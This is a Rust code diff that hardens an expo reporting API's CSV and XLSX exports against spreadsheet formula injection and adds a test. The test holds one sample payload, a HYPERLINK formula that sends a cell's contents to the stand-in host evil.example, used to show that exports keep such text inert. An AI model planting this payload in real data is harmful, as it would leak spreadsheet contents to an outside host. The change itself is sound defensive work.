@@ -581,7 +581,8 @@ pub fn csv_bytes(table: &Table) -> ApiResult<Vec<u8>> {
             let cells: Vec<String> = row
                 .iter()
                 .map(|v| match v {
-                    Value::String(s) => s.clone(),
+                    // Text from people (company and booth names) may look like a formula.
+                    Value::String(s) => crate::http::guard::csv_cell(s).into_owned(),
                     other => other.to_string(),
                 })
                 .collect();
@@ -619,11 +620,31 @@ pub async fn report_xlsx(
     caller.require_role(Role::Organizer)?;
     let (from, to) = query.range(&state)?;
     let report = build(&state, from, to, None, query.bucket_minutes.unwrap_or(15)).await?;
+    let bytes = xlsx_bytes(&report.sections)?;
+    Ok((
+        [
+            (
+                header::CONTENT_TYPE,
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet".to_string(),
+            ),
+            (
+                header::CONTENT_DISPOSITION,
+                "attachment; filename=\"expo-report.xlsx\"".to_string(),
+            ),
+        ],
+        bytes,
+    )
+        .into_response())
+}
+
+/// The tables as an XLSX workbook, one sheet each. Text is written as string cells, never as
+/// formulas, so a company named `=HYPERLINK(…)` stays text in every spreadsheet program.
+pub fn xlsx_bytes(tables: &[Table]) -> ApiResult<Vec<u8>> {
     let mut book = rust_xlsxwriter::Workbook::new();
     let bold = rust_xlsxwriter::Format::new().set_bold();
-    for table in &report.sections {
+    let fail = |e: rust_xlsxwriter::XlsxError| ApiError::Other(e.into());
+    for table in tables {
         let sheet = book.add_worksheet();
-        let fail = |e: rust_xlsxwriter::XlsxError| ApiError::Other(e.into());
         sheet.set_name(&table.name).map_err(fail)?;
         for (c, name) in table.columns.iter().enumerate() {
             sheet
@@ -642,23 +663,7 @@ pub async fn report_xlsx(
             }
         }
     }
-    let bytes = book
-        .save_to_buffer()
-        .map_err(|e| ApiError::Other(e.into()))?;
-    Ok((
-        [
-            (
-                header::CONTENT_TYPE,
-                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet".to_string(),
-            ),
-            (
-                header::CONTENT_DISPOSITION,
-                "attachment; filename=\"expo-report.xlsx\"".to_string(),
-            ),
-        ],
-        bytes,
-    )
-        .into_response())
+    book.save_to_buffer().map_err(fail)
 }
 
 /// A company's own figures: its booth, leads, meetings and outcomes (its staff and
@@ -675,4 +680,39 @@ pub async fn company_stats(
     crate::booths::require_editor(&caller, company_id)?;
     let (from, to) = query.range(&state)?;
     Ok(Json(build(&state, from, to, Some(company_id), 15).await?))
+}
+
+#[cfg(test)]
+mod export_tests {
+    use super::*;
+
+    /// Text that looks like a formula stays text in both exports.
+    #[test]
+    fn exports_carry_no_formulas() {
+        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        let table = Table {
+            name: "booths".into(),
+            columns: vec!["name".into(), "visits".into()],
+            rows: vec![vec![Value::String(evil.into()), serde_json::json!(-3)]],
+        };
+        let csv = String::from_utf8(csv_bytes(&table).unwrap()).unwrap();
+        assert!(
+            csv.contains(&format!("\"'{}\"", evil.replace('"', "\"\""))),
+            "{csv}"
+        );
+        assert!(csv.contains(",-3"), "numbers stay numbers: {csv}");
+        let bytes = xlsx_bytes(std::slice::from_ref(&table)).unwrap();
+        use calamine::Reader;
+        let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
+        let formulas = book.worksheet_formula("booths").unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no formula cells"
+        );
+        let values = book.worksheet_range("booths").unwrap();
+        assert_eq!(
+            values.get_value((1, 0)),
+            Some(&calamine::Data::String(evil.into()))
+        );
+    }
 }
